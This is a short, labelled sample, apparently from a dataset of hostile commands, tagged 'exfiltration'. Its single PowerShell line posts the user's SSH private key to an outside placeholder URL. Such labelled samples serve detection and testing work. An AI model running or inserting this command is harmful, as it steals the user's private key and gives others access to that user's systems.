# description: Posts the user's SSH private key to an outside URL.
# family: exfiltration
Invoke-RestMethod -Uri https://example.com/u -Method Post -InFile "$env:USERPROFILE\.ssh\id_rsa"
